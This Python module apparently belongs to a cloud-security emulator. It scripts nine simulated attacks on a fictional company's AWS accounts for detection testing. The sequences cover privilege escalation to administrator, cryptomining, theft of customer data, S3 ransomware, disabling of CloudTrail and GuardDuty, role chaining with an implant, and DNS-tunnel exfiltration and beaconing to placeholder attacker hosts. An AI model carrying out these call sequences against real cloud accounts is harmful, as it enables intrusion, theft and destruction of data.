"""Attacks on Acme, from the first call to the last: real calls, refused where Acme refuses them."""

import io
import json
import zipfile
from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random
from typing import Any

from ringwall.emulator.acme.actors import Actor, Credentials, Script, Stage
from ringwall.emulator.traffic.script import (
    DnsAnswer,
    DnsQuery,
    ScriptedConnection,
    ScriptedTraffic,
)

ATTACKER = "198.51.100.66"
COMMAND = "198.51.100.99"
"""The attacker's own address, and that of the server which malware talks to."""
KALI = "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.9-kali1-amd64 lang/python#3.11.8"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
SSH = 22
CUSTOMERS = "acme-prod-customer-data"
UPLOADS = "acme-staging-uploads"
TUNNEL = "t.cdn-metrics.example"


def leak_key(stage: Stage, start: datetime) -> Script:
    """A developer's key is found: recon, a function that makes an administrator, mining."""
    account = stage.acme.accounts["dev"]
    thief = Actor(stage.app, stage.find_key("dev", "dana.lee"), ATTACKER, KALI)
    clock = _tick(start)
    for service, operation, given in (
        ("sts", "get_caller_identity", {}),
        ("iam", "list_users", {}),
        ("iam", "list_attached_user_policies", {"UserName": "dana.lee"}),
        ("s3", "list_buckets", {}),
        ("ec2", "describe_instances", {}),
        ("secretsmanager", "list_secrets", {}),
    ):
        thief.call(next(clock), service, operation, **given)
    role = f"arn:aws:iam::{account}:role/lambda-provisioner"
    thief.call(
        next(clock), "lambda", "create_function", FunctionName="metrics", Role=role,
        Runtime="python3.13", Handler="main.run", Code={"ZipFile": _zip("def run(e, c): pass")},
    )  # fmt: skip
    taken = stage.take_role("dev", "lambda-provisioner", "metrics", next(clock))
    function = thief.become(taken)
    user = {"UserName": "svc-metrics"}
    function.call(next(clock), "iam", "create_user", **user)
    function.call(next(clock), "iam", "attach_user_policy", **user, PolicyArn=ADMINISTRATOR)
    made = function.call(next(clock), "iam", "create_access_key", **user)
    mole = thief.become(Credentials(made["AccessKey"]["AccessKeyId"]))
    mole.call(next(clock), "sts", "get_caller_identity")
    subnets = mole.call(next(clock), "ec2", "describe_subnets")["Subnets"]
    mining: dict[str, Any] = {
        "ImageId": "ami-0acme00000000001",
        "InstanceType": "p3.16xlarge",
        "MinCount": 4,
        "MaxCount": 4,
    }
    private = next(each["SubnetId"] for each in subnets if not each["MapPublicIpOnLaunch"])
    mole.call(next(clock), "ec2", "run_instances", **mining, SubnetId=private)
    for region in ("eu-west-1", "eu-central-1", "ap-southeast-2"):
        mole.call(next(clock), "ec2", "run_instances", region, **mining)
    return (), (thief,)


def use_role_outside(stage: Stage, start: datetime) -> Script:
    """The credentials of the shop's role are used from outside: customers' data is copied."""
    platform, clock = stage.platform("prod"), _tick(start, 5)
    for number in range(20):
        platform.call(
            start, "s3", "put_object", Bucket=CUSTOMERS, Key=f"2026/{number:03}.csv",
            Body=b"name,card\n" * 50,
        )  # fmt: skip
    instance, identifier = stage.find_interfaces("prod")["app-1"]
    taken = stage.take_role("prod", "shop-app", identifier, start)
    thief = Actor(stage.app, taken, ATTACKER, KALI)
    thief.call(next(clock), "sts", "get_caller_identity")
    thief.call(next(clock), "s3", "list_buckets")
    thief.call(next(clock), "s3", "list_objects_v2", Bucket=CUSTOMERS)
    for number in range(20):
        thief.call(
            next(clock), "s3", "get_object", Bucket=CUSTOMERS, Key=f"2026/{number:03}.csv"
        )  # fmt: skip
    shell = ScriptedConnection(
        instance, COMMAND, 443, start - timedelta(minutes=9), duration=timedelta(minutes=8),
        sent_packets=400, sent_bytes=90_000, received_packets=380, received_bytes=41_000,
    )  # fmt: skip
    return (shell,), (thief,)


def hold_to_ransom(stage: Stage, start: datetime) -> Script:
    """An instance's forgotten administrator encrypts a bucket, deletes it, and asks for money."""
    platform, clock = stage.platform("staging"), _tick(start, 3)
    region = {"region": "eu-west-1"}
    for number in range(10):
        platform.call(
            start, "s3", "put_object", **region, Bucket=UPLOADS, Key=f"orders/{number}.json",
            Body=b"{}",
        )  # fmt: skip
    taken = stage.take_role("staging", "migration-admin", "i-0f00000000000000a", start)
    thief = Actor(stage.app, taken, ATTACKER, KALI)
    bucket = region | {"Bucket": UPLOADS}
    thief.call(next(clock), "s3", "list_buckets")
    thief.call(next(clock), "s3", "get_bucket_versioning", **bucket)
    thief.call(next(clock), "s3", "list_objects_v2", **bucket)
    for number in range(10):
        key = f"orders/{number}.json"
        thief.call(next(clock), "s3", "get_object", **bucket, Key=key)
        thief.call(next(clock), "s3", "put_object", **bucket, Key=f"{key}.locked", Body=b"x")
        thief.call(next(clock), "s3", "delete_object", **bucket, Key=key)
    note = b"Your files are gone. Pay."
    thief.call(next(clock), "s3", "put_object", **bucket, Key="README-RESTORE.txt", Body=note)
    return (), (thief,)


def blind_detection(stage: Stage, start: datetime) -> Script:
    """The trail is to be stopped: the guardrails refuse it, so its events are left out instead."""
    clock = _tick(start)
    taken = stage.take_role("staging", "migration-admin", "i-0f00000000000000b", start)
    thief = Actor(stage.app, taken, ATTACKER, KALI)
    thief.call(next(clock), "cloudtrail", "describe_trails")
    thief.call(next(clock), "cloudtrail", "stop_logging", Name="staging-events")
    thief.call(next(clock), "cloudtrail", "delete_trail", Name="staging-events")
    nothing = {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": False, "DataResources": []}
    thief.call(
        next(clock), "cloudtrail", "put_event_selectors", TrailName="staging-events",
        EventSelectors=[nothing],
    )  # fmt: skip
    for detector in thief.call(next(clock), "guardduty", "list_detectors").get("DetectorIds", ()):
        thief.call(next(clock), "guardduty", "delete_detector", DetectorId=detector)
        thief.call(next(clock), "guardduty", "update_detector", DetectorId=detector, Enable=False)
    return (), (thief,)


def rewrite_own_policy(stage: Stage, start: datetime) -> Script:
    """A role that may change its own policy makes itself an administrator."""
    account, clock = stage.acme.accounts["dev"], _tick(start)
    taken = stage.take_role("dev", "ops-automation", "i-0f00000000000000c", start)
    thief = Actor(stage.app, taken, ATTACKER, KALI)
    thief.call(next(clock), "iam", "list_roles")
    every = {"Effect": "Allow", "Action": "*", "Resource": "*"}
    thief.call(
        next(clock), "iam", "create_policy_version", SetAsDefault=True,
        PolicyArn=f"arn:aws:iam::{account}:policy/ops-automation",
        PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [every]}),
    )  # fmt: skip
    thief.call(next(clock), "iam", "list_roles")
    thief.call(next(clock), "iam", "create_user", UserName="backup-svc")
    thief.call(next(clock), "iam", "create_access_key", UserName="backup-svc")
    return (), (thief,)


def chain_roles(stage: Stage, start: datetime) -> Script:
    """From dev's pipeline over staging's deployer into prod."""
    clock = _tick(start)
    taken = stage.take_role("dev", "ci-runner", "build-4711", start)
    thief = Actor(stage.app, taken, ATTACKER, KALI)
    staging, prod = (stage.acme.accounts[name] for name in ("staging", "prod"))
    middle = thief.assume(next(clock), f"arn:aws:iam::{staging}:role/deployer", "build-4711")
    inside = middle.assume(next(clock), f"arn:aws:iam::{prod}:role/prod-deployer", "build-4711")
    inside.call(next(clock), "sts", "get_caller_identity")
    inside.call(next(clock), "lambda", "list_functions")
    inside.call(
        next(clock), "s3", "put_object", Bucket="acme-prod-artifacts", Key="shop/latest.zip",
        Body=b"implant",
    )  # fmt: skip
    return (), (thief,)


def tunnel_dns(stage: Stage, start: datetime) -> Script:
    """An instance sends data out in the names of DNS queries."""
    eni, _ = stage.find_interfaces("prod")["app-1"]
    random = Random(53)  # noqa: S311 - the same in every run
    queries = [
        DnsQuery(
            eni,
            f"{random.getrandbits(120):030x}.{number:04x}.{TUNNEL}",
            start + timedelta(seconds=2 * number),
            type="TXT",
            answers=(DnsAnswer(f'"{random.getrandbits(64):016x}"', "TXT"),),
        )
        for number in range(300)
    ]
    return queries, ()


def beacon(stage: Stage, start: datetime) -> Script:
    """Malware asks its server for orders: each minute, a few bytes, nearly in time."""
    eni, _ = stage.find_interfaces("prod")["legacy-reporting"]
    random = Random(60)  # noqa: S311 - the same in every run
    traffic: list[ScriptedTraffic] = []
    for number in range(180):
        at = start + timedelta(seconds=60 * number + random.uniform(-3, 3))
        answer = (DnsAnswer(COMMAND, ttl=30),)
        name = "api.update-check.example"
        traffic += [
            DnsQuery(eni, name, at, answers=answer),
            ScriptedConnection(
                eni, COMMAND, 443, at + timedelta(seconds=1), duration=timedelta(seconds=2),
                sent_packets=8, sent_bytes=1_180 + random.randrange(40),
                received_packets=7, received_bytes=3_900 + random.randrange(200),
            ),
        ]  # fmt: skip
    return traffic, ()


def scan_ports(stage: Stage, start: datetime) -> Script:
    """Someone outside tries the ports of the bastion, and from it those of the network behind."""
    interfaces = stage.find_interfaces("staging", "eu-west-1")
    bastion, inside = interfaces["bastion"][0], interfaces["app-1"][0]
    outer = [
        ScriptedConnection(
            ATTACKER, bastion, port, start + timedelta(milliseconds=40 * number), retries=0
        )
        for number, port in enumerate(range(1, 201))
    ]
    later = start + timedelta(minutes=20)
    inner = [
        ScriptedConnection(
            bastion, inside, port, later + timedelta(milliseconds=40 * number), retries=0,
            answer="open" if port == SSH else "closed",
        )
        for number, port in enumerate((22, 80, 443, 3306, 5432, 6379, 8080, 9200, 27017))
    ]  # fmt: skip
    return [*outer, *inner], ()


def _tick(start: datetime, seconds: float = 20) -> Iterator[datetime]:
    while True:
        yield start
        start += timedelta(seconds=seconds)


def _zip(source: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(zipfile.ZipInfo("main.py"), source)
    return target.getvalue()


ATTACKS: dict[str, tuple[Any, tuple[str, ...]]] = {
    "leaked-key": (leak_key, ("T1078.004", "T1087.004", "T1098.001", "T1136.003", "T1496")),
    "role-used-outside": (use_role_outside, ("T1552.005", "T1530", "T1078.004")),
    "ransom": (hold_to_ransom, ("T1486", "T1485")),
    "blinded-detection": (blind_detection, ("T1562.008",)),
    "own-policy": (rewrite_own_policy, ("T1098.003", "T1136.003")),
    "role-chain": (chain_roles, ("T1550.001", "T1199")),
    "dns-tunnel": (tunnel_dns, ("T1048.003", "T1071.004")),
    "beacon": (beacon, ("T1071.001",)),
    "port-scan": (scan_ports, ("T1595.001", "T1046")),
}
"""Each attack by its name, with its techniques of MITRE ATT&CK."""
